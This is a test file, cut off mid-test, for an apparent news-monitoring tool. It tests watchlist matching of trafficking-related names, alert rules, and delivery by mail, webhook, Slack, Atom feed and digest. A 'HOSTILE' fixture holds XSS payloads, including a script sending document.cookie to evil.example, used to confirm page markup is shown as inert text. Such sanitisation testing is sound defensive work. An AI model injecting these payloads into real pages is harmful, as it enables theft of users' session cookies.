// Watchlists, alert rules, delivery (real SMTP server, real HTTP receivers),
// the Atom feed, daily digests and crash safety of the outbox.
import { spawn } from 'node:child_process';
import { createHmac } from 'node:crypto';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { hostname } from 'node:os';
import { join } from 'node:path';
import * as cheerio from 'cheerio';
import { afterEach, describe, expect, it } from 'vitest';
import { openDb, type Db } from '../storage/db.js';
import { storeArticle, reviseArticle, type ArticleInput } from '../storage/articles-repo.js';
import { upsertSources } from '../storage/sources-repo.js';
import { importWatchlists } from '../storage/watchlists-repo.js';
import { addSubscription, addUser } from '../storage/users-repo.js';
import { analyze } from '../extractors/analyze.js';
import { contentHash } from '../dedupe/content-hash.js';
import { parseWatchlists } from '../alerts/watchlist-file.js';
import { compileWatchlist, matchWatchlist } from '../alerts/watchlist-matcher.js';
import { runRules } from '../alerts/run-rules.js';
import { newLinks } from '../storage/digests-repo.js';
import { RULES } from '../alerts/rules/index.js';
import { newPlaceReason } from '../alerts/rules/link-place.js';
import { seizureReason } from '../alerts/rules/seizure.js';
import { deliverPending } from '../alerts/deliver.js';
import { mailerFromEnv } from '../alerts/channels/email.js';
import { localClock, queueDueDigests } from '../alerts/digest.js';
import { loadAlertSettings } from '../alerts/settings.js';
import { startServer } from '../web/server.js';
import { feedPath, linksFeedPath } from '../alerts/atom.js';
import { jsonLines, ROOT, ruta } from './helpers/cli.js';
import { startSmtp, type TestSmtp } from './helpers/smtp.js';
import { tempDir } from './helpers/tmp.js';

const cleanups: (() => unknown)[] = [];
afterEach(async () => {
  for (const c of cleanups.splice(0).reverse()) await c();
});

const WATCHLISTS = readFileSync(join(ROOT, 'config', 'watchlists.yaml'), 'utf8');
const MAIL_FROM = 'Ruta <ruta@ruta.test>';
// Fast retries for tests; everything else as shipped.
const SETTINGS = { ...loadAlertSettings(), backoffMs: 60_000, publicUrl: 'http://ruta.test', webhookSecret: 'a shared webhook secret' };

async function freshDb(): Promise<{ db: Db; path: string; dir: string }> {
  const t = tempDir();
  cleanups.push(t.cleanup);
  const path = join(t.dir, 'ruta.db');
  const db = await openDb(path);
  cleanups.push(() => db.$disconnect());
  await upsertSources(db, ['el-litoral', 'vijesti', 'night-desk'].map((id) => ({ id, name: id, url: `https://${id}.example/feed`, kind: 'rss', language: 'en', country: 'EC', schedule: '*/30 * * * *', render: false, enabled: true, config: {} })));
  await importWatchlists(db, parseWatchlists(WATCHLISTS, 'config/watchlists.yaml'));
  return { db, path, dir: t.dir };
}

/** An article as the crawler stores it: analysed by the real extractors. */
function article(sourceId: string, slug: string, title: string, text: string, published = '2026-11-20T08:00:00Z'): ArticleInput {
  const a = analyze({ text, title });
  return {
    sourceId, url: `https://${sourceId}.example/${slug}`, fetchedUrl: `https://${sourceId}.example/${slug}`, title, author: null, published: new Date(published),
    lang: a.lang, script: a.script, langConfidence: a.langConfidence, text, contentHash: contentHash(text),
    entities: a.entities.map(({ type, text, start, end, canonical, side }) => ({ type, text, start, end, canonical, side })),
    seizures: a.seizures, links: a.links,
  };
}

const FIRST = {
  title: 'Cocaine seized in Guayaquil was organised by the Kavač clan',
  text:
    'Ecuadorian police seized 2.3 tonnes of cocaine in the port of Guayaquil on Monday. Investigators said the shipment was organised by the Kavač clan, a Montenegrin group. ' +
    'The container, loaded with bananas, was bound for Antwerp. Prosecutors in Guayaquil said the Kavač clan had used the same exporter before.',
};
const FOLLOW_UP = {
  title: 'Kavač clan cocaine shipment from Guayaquil: arrest in Quito',
  text:
    'Ecuadorian police seized 2.3 tonnes of cocaine in the port of Guayaquil on Monday, organised by the Kavač clan, a Montenegrin group. ' +
    'Prosecutors now say the Kavač clan used the port of Guayaquil and also Puerto Bolívar. Police arrested Goran Marković, a Serbian national, in Quito.',
};
const HOSTILE = {
  title: '<script>alert("x")</script> Kavač clan moved cocaine through Callao',
  text:
    'Peruvian police said the Kavač clan <img src=x onerror=alert(1)> moved cocaine through the port of Callao. <script>document.location="https://evil.example/?"+document.cookie</script> ' +
    'Officers seized 450 kilograms of cocaine in Callao on Friday, hidden in a shipment of coffee.',
};

async function receiver(status: (n: number) => number = () => 200) {
  const got: { headers: IncomingMessage['headers']; body: string }[] = [];
  const server: Server = createServer((req, res) => {
    let body = '';
    req.on('data', (d) => (body += d));
    req.on('end', () => {
      got.push({ headers: req.headers, body });
      res.statusCode = status(got.length);
      res.end('ok');
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  cleanups.push(() => new Promise((r) => server.close(() => r(undefined))));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/hook`, got };
}

async function smtp(): Promise<TestSmtp> {
  const s = await startSmtp();
  cleanups.push(() => s.close());
  return s;
}

describe('watchlist matching', () => {
  const list = compileWatchlist(
    parseWatchlists(WATCHLISTS).flatMap((w, i) =>
      w.entries.map((e, k) => ({ id: i * 100 + k, watchlist: w.name, name: e.name, type: e.type, side: e.side ?? 'other', aliases: e.aliases ?? [], languages: e.languages ?? [], negativeTerms: e.negative ?? [], enabled: true })),
    ),
  );
  const names = (text: string, lang = 'sr') => matchWatchlist(list, text, lang).map((h) => `${h.entry.name}=${h.text}`);

  it('finds names and aliases in both scripts, without diacritics and in inflected forms', () => {
    expect(names('Pripadnici Kavačkog klana uhapšeni su u luci Gvajakil.')).toEqual(['Kavač clan=Kavačkog klana', 'Guayaquil=Gvajakil']);
    expect(names('Припадници Кавачког клана ухапшени су у Гвајакилу.')).toEqual(['Kavač clan=Кавачког клана', 'Guayaquil=Гвајакилу']);
    expect(names('pripadnici kavackog klana')).toEqual(['Kavač clan=kavackog klana']);
    expect(names('El cártel de los Balcanes opera en Guayaquil.', 'es')).toEqual(['Balkan cartel=cártel de los Balcanes', 'Guayaquil=Guayaquil']);
    expect(names('Припадници Беливуковог клана сарађивали су са картелом Тито и Дино.').sort()).toEqual(['Belivuk clan=Беливуковог клана', 'Tito and Dino cartel=картелом Тито и Дино']);
  });

  it('a Latin name finds its Macedonian Cyrillic spelling (ќ and ѓ), as Macedonia romanises it and as a Serb writes it', () => {
    const people = compileWatchlist([
      { id: 1, watchlist: 'people', name: 'Kire Gjorgjievski', type: 'person', side: 'balkan', aliases: [], languages: [], negativeTerms: [], enabled: true },
      { id: 2, watchlist: 'people', name: 'Vladimir Bojović', type: 'person', side: 'balkan', aliases: [], languages: [], negativeTerms: [], enabled: true },
    ]);
    const hits = (text: string, lang: string) => matchWatchlist(people, text, lang).map((h) => `${h.entry.name}=${h.text}`);
    expect(hits('Полицијата го уапси Кире Ѓорѓиевски и Владимир Бојовиќ.', 'mk')).toEqual(['Kire Gjorgjievski=Кире Ѓорѓиевски', 'Vladimir Bojović=Владимир Бојовиќ']);
    expect(hits('Policia arrestoi Kire Gjorgjievski dhe Vladimir Bojović.', 'sq')).toEqual(['Kire Gjorgjievski=Kire Gjorgjievski', 'Vladimir Bojović=Vladimir Bojović']);
    expect(hits('Uhapšen je Vladimir Bojović.', 'sr')).toEqual(['Vladimir Bojović=Vladimir Bojović']);
  });

  it('reads a name\'s forms as the gazetteer does in the text\'s language: "called" is no Callao, "Santosh" no Santos', () => {
    expect(names('He called the police from a hotel; a call from Santiago alerted them.', 'en')).toEqual([]);
    expect(names('Santosh Kumar was arrested.', 'en')).toEqual([]);
    expect(names('Uhapšen je u Callau, a droga je stigla iz Guayaquila.', 'sr')).toEqual(['Guayaquil=Guayaquila', 'Callao=Callau']);
    expect(names('U arrestua në Guayaquilit.', 'sq')).toEqual(['Guayaquil=Guayaquilit']);
  });

  it('with the article\'s analysis, a name the gazetteer knows counts only where the analysis found that thing', () => {
    const hits = (title: string, text: string, lang: string) => {
      const a = analyze({ text, title, lang });
      const analysis = { bodyStart: title.length + 1, mentions: a.entities };
      return matchWatchlist(list, `${title}\n${text}`, lang, analysis).map((h) => `${h.entry.name}=${h.text}`);
    };
    // A former president, a club and its player are no port.
    expect(hits('Visita oficial', 'El expresidente Juan Manuel Santos visitó Cartagena.', 'es')).toEqual([]);
    expect(hits('Football', 'Santos beat Palmeiras 2-1 on Sunday, with two goals from Marcos Leonardo.', 'en')).toEqual([]);
    // The port is.
    expect(hits('Cocaine seized', 'Police found 300 kilos of cocaine in a container shipped from the port of Santos to Antwerp.', 'en')).toEqual(['Santos=Santos']);
    // In the headline, a known name counts when the body names that thing.
    expect(hits('Cocaine from Santos seized in Antwerp', 'Belgian customs found 300 kilos of cocaine in a container from the Brazilian port of Santos.', 'en')).toEqual(['Santos=Santos']);
    expect(hits('Santos wins the derby', 'The club beat Palmeiras on Sunday.', 'en')).toEqual([]);
    // A name the gazetteer does not know counts as before.
    const people = compileWatchlist([{ id: 9, watchlist: 'people', name: 'Dritan Gjika', type: 'person', side: 'balkan', aliases: [], languages: [], negativeTerms: [], enabled: true }]);
    const a = analyze({ text: 'Dritan Gjika was extradited to Italy.', lang: 'en' });
    expect(matchWatchlist(people, 'Extradited\nDritan Gjika was extradited to Italy.', 'en', { bodyStart: 11, mentions: a.entities }).map((h) => h.text)).toEqual(['Dritan Gjika']);
  });

  it('a negative term in the sentence suppresses the match, and other sentences still count', () => {
    expect(names('Santos FC won the derby at Vila Belmiro.', 'en')).toEqual([]);
    const hits = matchWatchlist(list, 'Santos FC won again. Police found cocaine in a container at the port of Santos.', 'en');
    expect(hits.map((h) => h.sentence)).toEqual(['Police found cocaine in a container at the port of Santos.']);
  });

  it('does not match a name inside a longer word, or an entry restricted to other languages', () => {
    expect(names('Santosa je rekla da…')).toEqual(['Santos=Santosa']); // inflected: counts
    expect(names('The Callaonian team', 'en')).toEqual([]); // not an ending, a different word
    const onlyEs = compileWatchlist([{ id: 1, watchlist: 'x', name: 'Callao', type: 'port', side: 'latam', aliases: [], languages: ['es'], negativeTerms: [], enabled: true }]);
    expect(matchWatchlist(onlyEs, 'Port of Callao', 'en')).toEqual([]);
    expect(matchWatchlist(onlyEs, 'Puerto del Callao', 'es')).toHaveLength(1);
  });
});

describe('alert rules', () => {
  it('each rule fires on what is new, once, with evidence, entities and story; nothing new means no alert', async () => {
    const { db } = await freshDb();
    const first = await storeArticle(db, article('el-litoral', 'guayaquil-kavac', FIRST.title, FIRST.text));
    expect(first.status).toBe('stored');
    const r1 = await runRules(db, { seizureKg: 100 });
    expect(r1.byRule).toMatchObject({ 'balkan-latam-link': 1, 'seizure-threshold': 1, 'link-new-place': 0, 'link-story-person': 0 });
    const alerts1 = await db.alert.findMany({ orderBy: { id: 'asc' } });
    const byRule = (rule: string) => alerts1.filter((a) => a.rule === rule);
    expect(byRule('watchlist-hit').map((a) => JSON.parse(a.entities)[0]).sort()).toEqual(['Guayaquil', 'Kavač clan']);
    expect(byRule('balkan-latam-link')[0]).toMatchObject({ severity: 'high', reason: 'New Balkan–Latin America link: Kavač clan – Guayaquil' });
    expect(byRule('seizure-threshold')[0]).toMatchObject({ severity: 'critical' });
    // The parties named in the seizure's own sentence; the police that seized it are no side of the trade.
    expect(byRule('seizure-threshold')[0]!.reason).toBe('Seizure of 2.3 t cocaine in Guayaquil; Latin American side: Guayaquil; agencies: National Police of Ecuador');
    // Each side with its own parties; the place named once, unless it is all its side has; agencies apart.
    const parties = [
      { side: 'balkan', canonical: 'Ardit Hoxholli' },
      { side: 'latam', canonical: 'Peru' },
      { side: 'balkan', canonical: 'Albanian' },
      { side: 'latam', canonical: 'Callao' },
    ];
    expect(seizureReason({ kg: 2300, drug: 'cocaine', place: 'Callao' }, parties)).toBe('Seizure of 2.3 t cocaine in Callao; Balkan side: Ardit Hoxholli, Albanian; Latin American side: Peru');
    expect(seizureReason({ kg: 1130, drug: 'cocaine', place: 'Ecuador' }, [{ side: 'latam', canonical: 'Ecuador' }])).toBe('Seizure of 1.13 t cocaine in Ecuador; Latin American side: Ecuador');
    const ploce = [
      { side: 'balkan', canonical: 'Ploče', type: 'port' },
      { side: 'latam', canonical: 'Ecuador', type: 'country' },
      { side: 'balkan', canonical: 'Customs Administration of Croatia', type: 'organization' },
      { side: 'balkan', canonical: 'USKOK', type: 'organization' },
    ];
    expect(seizureReason({ kg: 400, drug: 'cocaine', place: 'Ploče' }, ploce)).toBe(
      'Seizure of 400 kg cocaine in Ploče; Balkan side: Ploče; Latin American side: Ecuador; agencies: Customs Administration of Croatia, USKOK',
    );
    for (const a of alerts1) {
      expect(a.evidence && `${FIRST.title}\n${FIRST.text}`.includes(a.evidence.replace(/…$/, ''))).toBeTruthy();
      expect(a.storyId).toBe(first.status === 'stored' ? first.storyId : -1);
      expect(JSON.parse(a.entities).length).toBeGreaterThan(0);
    }
    // The watermark: nothing new, nothing fires.
    expect((await runRules(db)).total).toBe(0);

    // Another outlet's follow-up in the same story: a new port for a known link, a new person; the
    // watchlist entries already alerted for this story stay quiet.
    const second = await storeArticle(db, article('night-desk', 'kavac-arrest-quito', FOLLOW_UP.title, FOLLOW_UP.text, '2026-11-21T09:00:00Z'));
    expect(second.status === 'stored' && second.storyId).toBe(first.status === 'stored' && first.storyId);
    const r2 = await runRules(db, { seizureKg: 100 });
    expect(r2.byRule['watchlist-hit']).toBe(1); // Puerto Bolívar, new to the story
    expect(r2.byRule['seizure-threshold']).toBe(0); // the same 2.3 t in the same story
    const place = await db.alert.findFirstOrThrow({ where: { rule: 'link-new-place' } });
    expect(place.reason).toBe('Known link Kavač clan – Guayaquil reported in a new port: Puerto Bolívar');
    // Several places at once are plural.
    expect(newPlaceReason('Kavač clan', 'Ecuador', [{ type: 'city', canonical: 'Thessaloniki' }, { type: 'country', canonical: 'Greece' }])).toBe(
      'Known link Kavač clan – Ecuador reported in new places: Thessaloniki, Greece',
    );
    expect(place.evidence).toContain('Puerto Bolívar');
    const person = await db.alert.findFirstOrThrow({ where: { rule: 'link-story-person' } });
    expect(person).toMatchObject({ reason: 'New person in a Balkan–Latin America link story: Goran Marković' });
    expect(person.evidence).toContain('Goran Marković');

    // A revision that only adds a line: the story's alerts do not repeat.
    const before = await db.alert.count();
    const rev = await reviseArticle(db, article('el-litoral', 'guayaquil-kavac', FIRST.title, `${FIRST.text} The investigation continues.`));
    expect(rev.status).toBe('revised');
    expect((await db.articleChange.findMany({ where: { articleId: rev.articleId } })).map((c) => c.kind)).toEqual(['new', 'revised']);
    expect((await runRules(db)).total).toBe(0);
    expect(await db.alert.count()).toBe(before);
  });
});

describe('a pair under another spelling', () => {
  it('is no new link: an earlier article reported it with diacritics', async () => {
    const { db } = await freshDb();
    const text = (name: string) => `Ecuadorian police arrested the Serbian trafficker ${name} in Guayaquil, where he organised cocaine shipments to Antwerp for the Škaljari clan.`;
    await storeArticle(db, article('vijesti', 'saric-1', 'Arrest in Guayaquil', text('Darko Šarić'), '2026-11-20T08:00:00Z'));
    await runRules(db);
    // Another story, another outlet, the name without its diacritics.
    await storeArticle(db, article('night-desk', 'saric-2', 'Court hearing', `The case was heard on Friday. ${text('Darko Saric')}`, '2026-11-21T08:00:00Z'));
    await runRules(db);
    const links = await db.alert.findMany({ where: { rule: 'balkan-latam-link' }, orderBy: { id: 'asc' } });
    const about = (name: string) => links.filter((a) => (JSON.parse(a.entities) as string[]).includes(name));
    expect(about('Darko Šarić')[0]).toMatchObject({ severity: 'high' });
    expect(about('Darko Saric').length).toBeGreaterThan(0);
    expect(about('Darko Saric').every((a) => a.severity === 'medium' && a.reason.startsWith('Known'))).toBe(true);
    const fresh = await newLinks(db, new Date('2000-01-01'), new Date(Date.now() + 60_000));
    expect(fresh.filter((l) => l.latam === 'Guayaquil').map((l) => l.balkan)).toEqual(['Darko Šarić', 'Škaljari clan']);
  });
});

describe('rules at different watermarks', () => {
  it('each rule takes the changes past its own watermark, once, when the batch is read for all of them', async () => {
    const keys = async (db: Db) => (await db.alert.findMany({ select: { key: true } })).map((a) => a.key).sort();
    // Control: every rule runs after each article.
    const control = (await freshDb()).db;
    await storeArticle(control, article('el-litoral', 'guayaquil-kavac', FIRST.title, FIRST.text));
    await runRules(control, { seizureKg: 100 });
    await storeArticle(control, article('night-desk', 'kavac-arrest-quito', FOLLOW_UP.title, FOLLOW_UP.text, '2026-11-21T09:00:00Z'));
    await runRules(control, { seizureKg: 100 });
    const expected = await keys(control);
    expect(new Set(expected.map((k) => k.split(':')[0]))).toEqual(new Set(['watchlist-hit', 'balkan-latam-link', 'seizure-threshold', 'link-new-place', 'link-story-person']));

    const { db } = await freshDb();
    await storeArticle(db, article('el-litoral', 'guayaquil-kavac', FIRST.title, FIRST.text));
    // Only the seizure rule runs (as after a crash between rules, or before the others were added).
    const seizureOnly = await runRules(db, { seizureKg: 100, rules: RULES.filter((r) => r.name === 'seizure-threshold') });
    expect(seizureOnly.byRule).toEqual({ 'seizure-threshold': 1 });
    await storeArticle(db, article('night-desk', 'kavac-arrest-quito', FOLLOW_UP.title, FOLLOW_UP.text, '2026-11-21T09:00:00Z'));
    // All rules, one change per batch: the others catch up on both articles, the seizure rule reads only the second.
    const all = await runRules(db, { seizureKg: 100, batchSize: 1 });
    expect(all.byRule['seizure-threshold']).toBe(0);
    expect(await keys(db)).toEqual(expected);
    const marks = await db.ruleWatermark.findMany({ where: { rule: { in: RULES.map((r) => r.name) } } });
    expect(marks).toHaveLength(RULES.length);
    expect(new Set(marks.map((m) => m.lastId)).size).toBe(1);
    expect((await runRules(db, { seizureKg: 100 })).total).toBe(0);
  });
});

describe('delivery', () => {
  async function setup() {
    const d = await freshDb();
    const mail = await smtp();
    const hook = await receiver();
    const slack = await receiver();
    const u = await addUser(d.db, { email: 'Analyst@Ruta.test', role: 'analyst', timezone: 'Europe/Belgrade' });
    await addSubscription(d.db, { userId: u.id, channel: 'email', mode: 'immediate', minSeverity: 'high' });
    await addSubscription(d.db, { userId: u.id, channel: 'webhook', target: hook.url, rules: ['balkan-latam-link'] });
    await addSubscription(d.db, { userId: u.id, channel: 'slack', target: slack.url, rules: ['balkan-latam-link'] });
    await addSubscription(d.db, { userId: u.id, channel: 'atom', rules: ['balkan-latam-link', 'watchlist-hit'] });
    const mailer = mailerFromEnv({ RUTA_SMTP_URL: mail.url, RUTA_MAIL_FROM: MAIL_FROM });
    return { ...d, mail, hook, slack, user: u, mailer };
  }

  it('sends mail, webhooks and Slack text once; markup and script from a page arrive as inert text; the Atom feed too', async () => {
    const { db, mail, hook, slack, user, mailer } = await setup();
    await storeArticle(db, article('el-litoral', 'callao', HOSTILE.title, HOSTILE.text));
    await runRules(db, { seizureKg: 100 });
    const high = await db.alert.findMany({ where: { severity: { in: ['high', 'critical'] } } });
    expect(high.length).toBeGreaterThan(0);
    const rep = await deliverPending(db, { mailer, settings: SETTINGS });
    expect(rep).toMatchObject({ failed: 0, inDoubt: 0, retrying: 0 });
    expect(mail.messages).toHaveLength(high.length);
    for (const m of mail.messages) {
      expect(m.to && 'text' in m.to ? m.to.text : '').toBe('analyst@ruta.test');
      expect(m.from?.value[0]).toMatchObject({ name: 'Ruta', address: 'ruta@ruta.test' });
      expect(m.messageId).toMatch(/^<ruta\.[0-9a-f]{32}@ruta\.test>$/);
      const html = String(m.html);
      expect(html).not.toMatch(/<script|<img/i);
      const $ = cheerio.load(html);
      expect($('script, img').length).toBe(0);
      expect($('*').toArray().flatMap((el) => Object.keys((el as { attribs?: Record<string, string> }).attribs ?? {})).filter((k) => k.startsWith('on'))).toEqual([]);
      expect($('a').toArray().every((a) => /^https?:/.test($(a).attr('href') ?? ''))).toBe(true);
    }
    const linkMail = mail.messages.find((m) => m.subject?.includes('New Balkan–Latin America link'))!;
    expect(linkMail.subject).toMatch(/^\[Ruta\] High: New Balkan–Latin America link: Kavač clan – Callao/);
    expect(linkMail.text).toContain('Kavač clan');
    expect(cheerio.load(String(linkMail.html))('body').text()).toContain('<script>alert("x")</script>'); // shown as text

    expect(hook.got).toHaveLength(1);
    const body = JSON.parse(hook.got[0]!.body);
    expect(body).toMatchObject({ type: 'alert', alert: { rule: 'balkan-latam-link', severity: 'high', entities: ['Kavač clan', 'Callao'] } });
    expect(body.alert.article.title).toBe(HOSTILE.title);
    expect(hook.got[0]!.headers['idempotency-key']).toBe(body.delivery);
    // Signed with the shared secret over the timestamp and the exact body: a receiver can refuse forgeries and replays.
    const at = Number(hook.got[0]!.headers['x-ruta-timestamp']);
    expect(Math.abs(Date.now() / 1000 - at)).toBeLessThan(60);
    const mac = createHmac('sha256', 'a shared webhook secret').update(`${at}.${hook.got[0]!.body}`).digest('hex');
    expect(hook.got[0]!.headers['x-ruta-signature']).toBe(`sha256=${mac}`);
    expect(createHmac('sha256', 'another secret').update(`${at}.${hook.got[0]!.body}`).digest('hex')).not.toBe(mac);
    expect(slack.got).toHaveLength(1);
    expect(slack.got[0]!.headers['x-ruta-signature']).toBeUndefined();
    const text = JSON.parse(slack.got[0]!.body).text as string;
    expect(text).toContain('&lt;script&gt;');
    expect(text).not.toContain('<script');

    // Nothing is sent twice.
    expect((await deliverPending(db, { mailer, settings: SETTINGS })).sent).toBe(0);
    expect(mail.messages).toHaveLength(high.length);
    expect(hook.got).toHaveLength(1);

    // The Atom feed: the user's token, the subscribed rules, inert text.
    const server = await startServer(db, { port: 0 });
    cleanups.push(() => server.close());
    const res = await fetch(`http://127.0.0.1:${server.port}${feedPath(user.feedToken)}`);
    expect(res.headers.get('content-type')).toContain('application/atom+xml');
    const xmlText = await res.text();
    expect(xmlText).not.toMatch(/<script|<img/i);
    const $ = cheerio.load(xmlText, { xml: true });
    const wanted = await db.alert.count({ where: { rule: { in: ['balkan-latam-link', 'watchlist-hit'] } } });
    expect($('entry').length).toBe(wanted);
    expect($('entry title').first().text()).toMatch(/^(High|Medium|Low|Critical): /);
    expect($('entry summary').text()).toContain('<script>alert("x")</script>');
    expect((await fetch(`http://127.0.0.1:${server.port}/feeds/not-a-real-token-at-all/alerts.atom`)).status).toBe(404);

    // The links feed: every link but those analysts dismissed, newest first, inert, each with its page in Ruta.
    await storeArticle(db, article('night-desk', 'guayaquil-kavac', FIRST.title, FIRST.text));
    const links = await db.link.findMany({ orderBy: { id: 'asc' } });
    expect(links.length).toBeGreaterThan(1);
    const { reviewLink } = await import('../storage/link-review-repo.js');
    const [hostile, other] = [links[0]!, links[links.length - 1]!]; // the hostile page's link, then the Guayaquil report's
    await reviewLink(db, other.id, null, 'dismissed');
    await reviewLink(db, hostile.id, null, 'confirmed');
    const lf = await fetch(`http://127.0.0.1:${server.port}${linksFeedPath(user.feedToken)}`);
    expect(lf.headers.get('content-type')).toContain('application/atom+xml');
    const lx = cheerio.load(await lf.text(), { xml: true });
    const titles = lx('entry title').toArray().map((t) => lx(t).text());
    expect(titles).toHaveLength(links.length - 1);
    expect(titles).not.toContain(`${other.balkan} – ${other.latam}`);
    expect(titles).toContain(`${hostile.balkan} – ${hostile.latam} (confirmed)`);
    expect(lx('entry link[rel=related]').toArray().map((a) => lx(a).attr('href'))).toContain(`${loadAlertSettings().publicUrl}/links/${hostile.id}`);
    expect(lx('entry summary').text()).toContain('<img src=x onerror=alert(1)>'); // the hostile page's markup, as text
    expect(lx('script, img').length).toBe(0);
    expect((await fetch(`http://127.0.0.1:${server.port}/feeds/not-a-real-token-at-all/links.atom`)).status).toBe(404);
  });

  it('retries refused and failed sends with backoff, and gives up on a rejected target', async () => {
    const { db } = await freshDb();
    const flaky = await receiver((n) => (n === 1 ? 503 : 200));
    const gone = await receiver(() => 404);
    const closed = await receiver();
    cleanups.pop()!(); // its server closes: nothing listens on that port
    await new Promise((r) => setTimeout(r, 50));
    const u = await addUser(db, { email: 'hooks@ruta.test', role: 'analyst', digest: false });
    await addSubscription(db, { userId: u.id, channel: 'webhook', target: flaky.url, rules: ['balkan-latam-link'] });
    await addSubscription(db, { userId: u.id, channel: 'webhook', target: gone.url, rules: ['balkan-latam-link'] });
    await addSubscription(db, { userId: u.id, channel: 'webhook', target: closed.url, rules: ['balkan-latam-link'] });
    await storeArticle(db, article('el-litoral', 'guayaquil-kavac', FIRST.title, FIRST.text));
    await runRules(db);
    const r1 = await deliverPending(db, { mailer: null, settings: SETTINGS });
    expect(r1).toMatchObject({ sent: 0, retrying: 2, failed: 1, inDoubt: 0 });
    const rows = await db.delivery.findMany({ orderBy: { id: 'asc' } });
    expect(rows.map((r) => r.status)).toEqual(['pending', 'failed', 'pending']);
    expect(rows[0]!.nextAttemptAt.getTime()).toBeGreaterThan(Date.now() + 30_000);
    expect(rows[1]!.lastError).toMatch(/answered 404.*fix the subscription target/);
    expect(rows[2]!.lastError).toMatch(/cannot reach http:\/\/127\.0\.0\.1:\d+\/hook: ECONNREFUSED/);
    // Not due yet: nothing happens.
    expect((await deliverPending(db, { mailer: null, settings: SETTINGS })).sent).toBe(0);
    await db.delivery.updateMany({ data: { nextAttemptAt: new Date(Date.now() - 1000) } });
    const r2 = await deliverPending(db, { mailer: null, settings: SETTINGS });
    expect(r2).toMatchObject({ sent: 1, retrying: 1 });
    expect(flaky.got.map((g) => g.headers['idempotency-key'])).toEqual([rows[0]!.idempotencyKey, rows[0]!.idempotencyKey]);
    expect(gone.got).toHaveLength(1);
    expect((await db.delivery.findUniqueOrThrow({ where: { id: rows[2]!.id } })).attempts).toBe(2);
  });

  it('a sender killed between sending and recording never sends twice; one killed before sending is resumed', async () => {
    const { db, path, mail } = await setup();
    await storeArticle(db, article('el-litoral', 'guayaquil-kavac', FIRST.title, FIRST.text));
    await runRules(db);
    const emails = await db.delivery.findMany({ where: { channel: 'email' }, orderBy: { id: 'asc' } });
    expect(emails.length).toBeGreaterThanOrEqual(2);
    await db.$disconnect();
    const env = { ...process.env, RUTA_DB: path, RUTA_SMTP_URL: mail.url, RUTA_MAIL_FROM: MAIL_FROM };

    // The server has the whole first message; before it answers, the sender process is killed.
    const child = spawn(process.execPath, [join(ROOT, 'bin', 'ruta.js'), 'deliveries', 'run'], { cwd: ROOT, env, stdio: 'ignore' });
    const exited = new Promise<NodeJS.Signals | null>((r) => child.on('exit', (_c, sig) => r(sig)));
    mail.onMessage = () => {
      child.kill('SIGKILL');
      mail.onMessage = undefined;
    };
    expect(await exited).toBe('SIGKILL');
    expect(mail.messages).toHaveLength(1);

    // A restart sends the rest, and not the one in doubt.
    const again = await ruta(['deliveries', 'run'], { RUTA_DB: path, RUTA_SMTP_URL: mail.url, RUTA_MAIL_FROM: MAIL_FROM });
    expect(again.code, again.stderr).toBe(0);
    expect(again.stderr).toMatch(/1 in doubt/);
    expect(mail.messages).toHaveLength(emails.length);
    expect(new Set(mail.messages.map((m) => m.messageId)).size).toBe(emails.length);
    const list = jsonLines((await ruta(['deliveries', 'list', '--json'], { RUTA_DB: path })).stdout);
    const emailRows = list.filter((d) => d.channel === 'email');
    expect(emailRows.filter((d) => d.status === 'unknown')).toHaveLength(1);
    expect(emailRows.filter((d) => d.status === 'sent')).toHaveLength(emails.length - 1);
    expect(String(emailRows.find((d) => d.status === 'unknown')!.lastError)).toMatch(/may have it.*ruta deliveries retry \d+/);
    // Run again: still nothing twice.
    await ruta(['deliveries', 'run'], { RUTA_DB: path, RUTA_SMTP_URL: mail.url, RUTA_MAIL_FROM: MAIL_FROM });
    expect(mail.messages).toHaveLength(emails.length);

    // A sender that died after claiming but before transmitting: the delivery goes out once on restart.
    const db2 = await openDb(path);
    cleanups.push(() => db2.$disconnect());
    const dead = spawn(process.execPath, ['-e', '0']);
    const deadPid = await new Promise<number>((r) => dead.on('exit', () => r(dead.pid!)));
    const sent = emailRows.find((d) => d.status === 'sent')!;
    await db2.delivery.update({ where: { id: sent.id as number }, data: { status: 'sending', heldBy: `${hostname()}:${deadPid}`, leaseUntil: new Date(Date.now() + 3600_000) } });
    const rep = await deliverPending(db2, { mailer: mailerFromEnv({ RUTA_SMTP_URL: mail.url, RUTA_MAIL_FROM: MAIL_FROM }), settings: SETTINGS });
    expect(rep).toMatchObject({ requeued: 1, sent: 1 });
    expect(mail.messages).toHaveLength(emails.length + 1);
  }, 60_000);
});

describe('daily digest', () => {
  it('goes out at the user’s local hour, once a day, with links, stories, seizures, hits and broken sources; no item twice', async () => {
    const { db, path, dir } = await freshDb();
    const mail = await smtp();
    const tz = 'America/Guayaquil';
    await storeArticle(db, article('el-litoral', 'guayaquil-kavac', FIRST.title, FIRST.text));
    await db.source.update({ where: { id: 'vijesti' }, data: { lastRunAt: new Date(), lastErrorAt: new Date(), lastError: 'HTTP 503 from https://vijesti.example/feed' } });
    await runRules(db);
    const now = new Date();
    const hour = localClock(tz, now).hour;
    await addUser(db, { email: 'researcher@ruta.test', role: 'researcher', timezone: tz, digestHour: hour });

    // An hour before the user's digest hour: nothing.
    expect(await queueDueDigests(db, new Date(now.getTime() - 3600_000 - now.getMinutes() * 60_000))).toBe(hour === 0 ? 1 : 0);
    await db.digest.deleteMany();
    expect(await queueDueDigests(db, now)).toBe(1);
    expect(await queueDueDigests(db, now)).toBe(0); // the day's slot is taken
    const rep = await deliverPending(db, { mailer: mailerFromEnv({ RUTA_SMTP_URL: mail.url, RUTA_MAIL_FROM: MAIL_FROM }), settings: SETTINGS });
    expect(rep.sent).toBe(1);
    const m = mail.messages[0]!;
    expect(m.subject).toMatch(new RegExp(`^\\[Ruta\\] Daily digest ${localClock(tz, now).date}: 1 new link\\(s\\), 1 stories, 1 seizure\\(s\\), 2 watchlist hit\\(s\\)`));
    const $ = cheerio.load(String(m.html));
    const sections = $('h2').toArray().map((h) => $(h).text());
    expect(sections).toEqual(['New Balkan–Latin America links (1)', 'New stories (1)', 'Largest seizures (1)', 'Watchlist hits (2)', 'Other alerts (2)', 'Sources that went silent or broke (1)']);
    expect($('blockquote').first().text()).toContain('organised by the Kavač clan');
    // Links under their article, the period in the user's time.
    const links = $('h2').first().next('ul');
    expect(links.find('> li > a').first().text()).toContain(FIRST.title);
